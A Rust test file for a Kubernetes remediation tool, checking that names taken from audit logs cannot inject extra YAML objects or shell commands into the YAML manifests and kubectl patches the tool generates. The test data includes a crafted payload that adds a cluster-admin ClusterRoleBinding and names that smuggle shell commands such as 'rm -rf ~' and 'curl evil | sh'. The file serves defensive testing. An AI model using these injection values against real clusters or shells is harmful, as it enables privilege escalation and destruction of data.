//! Names from the audit log (user agents, users, groups, namespaces, resources, webhooks) are
//! attacker-controlled: whatever they hold, the remedies' YAML holds exactly the objects it
//! claims, each name reads back as the same string, and no name adds a shell command.

use std::collections::BTreeSet;

use findings::Remedy;
use remedy::{
    ApfSubject, FlowControlApi, KnownWebhook, ResourceRule, ThrottlePlan, WebhookKind, WebhookRef,
    known_webhook_remedies, object_count_quota, throttle_manifests, webhook_remedies,
};
use serde::Deserialize;
use yaml_serde::Value;

/// The documents of `text`, parsed by libyaml (a YAML 1.1 scanner, like PyYAML and the go-yaml
/// under kubectl: it ends a line at U+0085, U+2028 and U+2029 as well as at `\n` and `\r`).
fn documents(text: &str) -> Vec<Value> {
    yaml_serde::Deserializer::from_str(text)
        .map(|doc| Value::deserialize(doc).unwrap_or_else(|e| panic!("every document parses: {e}\n{text}")))
        .filter(|v| !v.is_null())
        .collect()
}

fn keys(v: &Value) -> Vec<&str> {
    v.as_mapping().map(|m| m.keys().filter_map(Value::as_str).collect()).unwrap_or_default()
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

/// Every character some YAML parser ends a line at.
const BREAKS: [char; 5] = ['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'];

/// Text that, if a break ended the comment or scalar it is in, adds a ClusterRoleBinding to
/// cluster-admin and an extra key to the document around it.
fn payload(br: char) -> String {
    format!(
        "inventory-exporter kubernetes/x/{br}---{br}{{\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\
         \"kind\":\"ClusterRoleBinding\",\"metadata\":{{\"name\":\"mallory\"}},\"roleRef\":{{\"apiGroup\":\
         \"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"}},\"subjects\":\
         [{{\"kind\":\"User\",\"name\":\"mallory\"}}]}}{br}---{br}injected-by: true{br}#"
    )
}

/// The names of a FlowSchema's subjects, as `(kind, name)`.
fn subject_names(fs: &Value) -> Vec<(String, String)> {
    let subjects = fs["spec"]["rules"][0]["subjects"].as_sequence().cloned().unwrap_or_default();
    subjects
        .iter()
        .map(|s| {
            let kind = s["kind"].as_str().unwrap_or("?").to_owned();
            let name = match kind.as_str() {
                "User" => s["user"]["name"].as_str().map(str::to_owned),
                "Group" => s["group"]["name"].as_str().map(str::to_owned),
                _ => s["serviceAccount"]["namespace"]
                    .as_str()
                    .zip(s["serviceAccount"]["name"].as_str())
                    .map(|(ns, n)| format!("{ns}/{n}")),
            };
            (kind, name.unwrap_or_else(|| format!("not a string: {s:?}")))
        })
        .collect()
}

fn check_objects(yaml: &str, docs: &[Value]) {
    let kinds: Vec<_> = docs.iter().map(|d| d["kind"].as_str().unwrap_or("?")).collect();
    assert_eq!(kinds, ["PriorityLevelConfiguration", "FlowSchema"], "{yaml}");
    for d in docs {
        assert_eq!(keys(d), ["apiVersion", "kind", "metadata", "spec"], "{yaml}");
        assert_eq!(keys(&d["metadata"]), ["name", "labels"], "{yaml}");
    }
    assert_eq!(keys(&docs[0]["spec"]), ["type", "limited"], "{yaml}");
    assert_eq!(
        keys(&docs[1]["spec"]),
        ["priorityLevelConfiguration", "matchingPrecedence", "distinguisherMethod", "rules"],
        "{yaml}"
    );
    assert_eq!(keys(&docs[1]["spec"]["rules"][0]), ["subjects", "resourceRules"], "{yaml}");
}

/// Review s19 item 1: the throttle's header comments held the client (the folded user agent),
/// the user names and their groups raw, so a U+2028 (or `\n`, `\r`, U+0085, U+2029) ended the
/// comment and the rest of a crafted user agent became YAML: a ClusterRoleBinding to
/// cluster-admin, applied with the throttle by `kubectl apply -f -`.
#[test]
fn a_user_agent_with_line_separators_cannot_add_objects_to_the_throttle_yaml() {
    for br in BREAKS {
        let client = payload(br);
        let user = format!("ci-bot{br}injected-by-user: true");
        let group = format!("grp{br}injected-by-group: true");
        let groups = set(&["system:authenticated", &group, "a, b: c", "back\\slash \\u{2028}"]);
        let subjects = vec![
            ApfSubject::User(user.clone()),
            ApfSubject::User(client.clone()),
            ApfSubject::Group(group.clone()),
            ApfSubject::ServiceAccount { namespace: format!("ns{br}x: y"), name: format!("sa{br}---{br}") },
        ];
        let rules = vec![ResourceRule {
            verbs: set(&["list"]),
            api_groups: set(&["", &format!("g{br}k: v")]),
            resources: set(&["pods", &format!("r{br}- x")]),
            cluster_scope: true,
            namespaces: set(&["*", &format!("n{br}---")]),
        }];
        let mut plan = ThrottlePlan::new(&client, subjects, rules);
        plan.groups_seen.insert(user.clone(), groups.clone());
        plan.groups_seen.insert(client.clone(), set(&[&group]));
        for api in [FlowControlApi::V1, FlowControlApi::V1beta2] {
            let yaml = throttle_manifests(&plan, api).expect("yaml");
            let docs = documents(&yaml);
            check_objects(&yaml, &docs);
            assert_eq!(
                subject_names(&docs[1]),
                [
                    ("User".to_owned(), user.clone()),
                    ("User".to_owned(), client.clone()),
                    ("Group".to_owned(), group.clone()),
                    ("ServiceAccount".to_owned(), format!("ns{br}x: y/sa{br}---{br}")),
                ],
                "{yaml}"
            );
            let rule = &docs[1]["spec"]["rules"][0]["resourceRules"][0];
            let strs = |v: &Value| -> Vec<String> {
                v.as_sequence()
                    .map(|s| s.iter().filter_map(|x| x.as_str().map(str::to_owned)).collect())
                    .unwrap_or_default()
            };
            assert_eq!(strs(&rule["apiGroups"]), ["".to_owned(), format!("g{br}k: v")], "{yaml}");
            assert_eq!(strs(&rule["resources"]), ["pods".to_owned(), format!("r{br}- x")], "{yaml}");
            assert_eq!(strs(&rule["namespaces"]), ["*".to_owned(), format!("n{br}---")], "{yaml}");
            // No line of the text holds a break other than `\n`; every comment line is one line.
            assert!(!yaml.contains(['\r', '\u{85}', '\u{2028}', '\u{2029}']), "{yaml:?}");
            let header: Vec<&str> = yaml.lines().take_while(|l| !l.starts_with("apiVersion:")).collect();
            assert!(header.iter().all(|l| l.starts_with('#')), "{header:#?}");
            // The identities head the YAML, the client (here also a user's name) escaped.
            assert!(header[0].starts_with("# Throttle user "), "{}", header[0]);
            assert!(
                header[1].starts_with("# It matches these identities, not a program")
                    && header[1].contains("not only inventory-exporter kubernetes/x/\\u{"),
                "{}",
                header[1]
            );
            // The groups seen still read back exactly, escapes and separators undone.
            let back = remedy::groups_seen(&yaml);
            assert_eq!(back.len(), 2, "{back:?}");
            assert_eq!(back[&user], groups.iter().cloned().collect::<Vec<_>>(), "{yaml}");
            assert_eq!(back[&client], std::slice::from_ref(&group), "{yaml}");
        }
    }
}

/// BiDi overrides and other invisible format characters are shown, not kept, in comments.
#[test]
fn comments_show_bidi_overrides_and_invisible_characters_as_escapes() {
    let client = "evil\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\u{1b}[31m\u{7f}";
    let plan = ThrottlePlan::new(client, vec![ApfSubject::User("u".into())], vec![]);
    let yaml = throttle_manifests(&plan, FlowControlApi::V1).expect("yaml");
    assert!(yaml.starts_with("# Throttle user u with API Priority"), "{yaml}");
    assert!(
        yaml.lines()
            .nth(1)
            .is_some_and(|l| l
                .ends_with("not only evil\\u{202e}gnp.exe\\u{2066}\\u{200b}\\u{feff}\\u{1b}[31m\\u{7f}'s.")),
        "{yaml}"
    );
}

/// The names YAML 1.1 (kubectl's `sigs.k8s.io/yaml`, go-yaml v2; PyYAML) reads as something
/// else when plain, and the YAML 1.2 indicators.
const LOOKALIKES: &[&str] = &[
    "yes",
    "on",
    "NO",
    "Off",
    "y",
    "12:30",
    "2001-12-14",
    "<<",
    "=",
    "~",
    "null",
    "0x1F",
    "1e3",
    "-",
    "'quoted'",
    "\"dq\"",
    "#hash",
    "a: b",
    "[x]",
    "{y}",
    "*alias",
    "&anchor",
    "!tag",
    "%",
    "@",
    "`",
    "",
    " lead",
    "trail ",
    ".inf",
    "0777",
    "+1",
    "true",
    "a\\b",
    "? q",
    "|",
    ">",
];

/// A name as the writer must put it: double-quoted, `\` and `"` escaped.
fn dq(name: &str) -> String {
    format!("\"{}\"", name.replace('\\', "\\\\").replace('"', "\\\""))
}

/// Review s19 item 2: subjects, namespaces and resources from the log were written unquoted
/// when YAML 1.2 saw no need, so YAML 1.1 read `yes`/`on`/`NO` as booleans, `12:30` as 750,
/// `2001-12-14` as a date, and failed on `<<` and `=`. libyaml's resolver (the Rust parser
/// here) is YAML 1.2-like, so besides reading every name back, the test asserts each is
/// double-quoted in the text, which every YAML version reads as the string it holds.
#[test]
fn yaml_1_1_lookalike_names_round_trip_as_strings() {
    let subjects: Vec<ApfSubject> = LOOKALIKES
        .iter()
        .flat_map(|n| {
            [
                ApfSubject::User((*n).to_owned()),
                ApfSubject::Group((*n).to_owned()),
                ApfSubject::ServiceAccount { namespace: (*n).to_owned(), name: (*n).to_owned() },
            ]
        })
        .collect();
    let rules = vec![ResourceRule {
        verbs: set(LOOKALIKES),
        api_groups: set(LOOKALIKES),
        resources: set(LOOKALIKES),
        cluster_scope: false,
        namespaces: set(LOOKALIKES),
    }];
    let plan = ThrottlePlan::new("client", subjects.clone(), rules);
    let yaml = throttle_manifests(&plan, FlowControlApi::V1).expect("yaml");
    let docs = documents(&yaml);
    check_objects(&yaml, &docs);
    let expected: Vec<(String, String)> = subjects
        .iter()
        .map(|s| match s {
            ApfSubject::User(n) => ("User".to_owned(), n.clone()),
            ApfSubject::Group(n) => ("Group".to_owned(), n.clone()),
            ApfSubject::ServiceAccount { namespace, name } => {
                ("ServiceAccount".to_owned(), format!("{namespace}/{name}"))
            }
        })
        .collect();
    assert_eq!(subject_names(&docs[1]), expected, "{yaml}");
    let rule = &docs[1]["spec"]["rules"][0]["resourceRules"][0];
    let sorted: Vec<String> = set(LOOKALIKES).into_iter().collect();
    for field in ["verbs", "apiGroups", "resources", "namespaces"] {
        let back: Vec<String> = rule[field]
            .as_sequence()
            .map(|s| {
                s.iter()
                    .map(|x| x.as_str().map_or_else(|| format!("not a string: {x:?}"), str::to_owned))
                    .collect()
            })
            .unwrap_or_default();
        assert_eq!(back, sorted, "{field}: {yaml}");
    }
    for name in LOOKALIKES {
        let quoted = dq(name);
        for line in [
            format!("      user:\n        name: {quoted}\n"),
            format!("      group:\n        name: {quoted}\n"),
            format!("        namespace: {quoted}\n        name: {quoted}\n"),
            format!("    - {quoted}\n"),
        ] {
            assert!(yaml.contains(&line), "{line:?} missing from:\n{yaml}");
        }
    }

    // The ResourceQuota's namespace and resource too.
    for name in LOOKALIKES {
        let quota = object_count_quota("q-count", name, name, "", 10).expect("quota");
        let docs = documents(&quota.body);
        assert_eq!(docs.len(), 1, "{}", quota.body);
        assert_eq!(keys(&docs[0]), ["apiVersion", "kind", "metadata", "spec"], "{}", quota.body);
        assert_eq!(docs[0]["metadata"]["namespace"].as_str(), Some(*name), "{}", quota.body);
        assert!(quota.body.contains(&format!("  namespace: {}\n", dq(name))), "{}", quota.body);
        let hard = &docs[0]["spec"]["hard"];
        assert_eq!(keys(hard), [format!("count/{name}").as_str()], "{}", quota.body);
        assert_eq!(hard[format!("count/{name}").as_str()].as_str(), Some("10"), "{}", quota.body);
        assert!(quota.body.ends_with(": '10'\n"), "{}", quota.body);
    }
}

/// YAML allows an implicit key of at most 1024 characters: a longer resource name (the
/// quota's key) is written as an explicit `? key` and still parses.
#[test]
fn a_resource_name_too_long_for_an_implicit_key_still_parses() {
    let long = format!("{}\u{2028}x", "r".repeat(2000));
    let quota = object_count_quota("q-count", "team-a", &long, "", 5).expect("quota");
    let docs = documents(&quota.body);
    let key = format!("count/{long}");
    assert_eq!(keys(&docs[0]["spec"]["hard"]), [key.as_str()], "{}", quota.body);
    assert_eq!(docs[0]["spec"]["hard"][key.as_str()].as_str(), Some("5"));
}

fn comment_tail(r: &Remedy, from: &str) -> Vec<String> {
    let at = r.body.find(from).unwrap_or_else(|| panic!("{from:?} in {}", r.body));
    r.body[at..].lines().map(str::to_owned).collect()
}

/// Webhook patches end in `#` comments naming the configuration, the namespaces excluded and
/// the controller managing it: a line break in any of them must not start a shell command.
#[test]
fn webhook_names_with_line_breaks_cannot_add_shell_commands() {
    for br in BREAKS {
        let hostile = format!("cfg{br}touch /tmp/pwned #");
        let unknown = webhook_remedies(&WebhookRef {
            webhook: format!("w{br}x"),
            configuration: Some((WebhookKind::Mutating, hostile.clone())),
        });
        let patch = unknown.iter().find(|r| r.body.contains("# Its namespaceSelector")).expect("patch");
        let tail = comment_tail(patch, "\n# Its namespaceSelector");
        assert!(tail.iter().all(|l| l.is_empty() || l.starts_with('#')), "{tail:#?}");
        // The patch's JSON holds no raw break either (kubectl reads it as YAML 1.1).
        let json =
            patch.body.split_once(" -p ").and_then(|(_, rest)| rest.split_once("\n# Its namespaceSelector"));
        let json = json.map(|(j, _)| j).unwrap_or_default();
        assert!(json.starts_with(r#"'{"webhooks":[{"#) && !json.contains(br), "{json:?}");
        // The comment naming the webhook before the selector patch stays one comment line.
        let exclude = unknown.iter().find(|r| r.body.contains("# Add the expressions")).expect("exclusion");
        let comment = comment_tail(exclude, "\n# Add the expressions");
        assert!(comment[1].starts_with('#') && comment[2].starts_with("kubectl patch"), "{comment:#?}");

        let selector = serde_json::json!({"matchExpressions": []});
        let known = known_webhook_remedies(
            &KnownWebhook {
                kind: WebhookKind::Validating,
                configuration: &hostile,
                webhook: "w.example.com",
                namespace_selector: selector,
            },
            &["kube-system", &format!("ns{br}rm -rf ~ #")],
            None,
            Some(&format!("flux{br}curl evil | sh #")),
        );
        let tail = comment_tail(&known[0], "\n# The selector above");
        assert!(tail.iter().all(|l| l.is_empty() || l.starts_with('#')), "{tail:#?}");
        assert_eq!(tail.len(), 3, "{tail:#?}");
    }
}
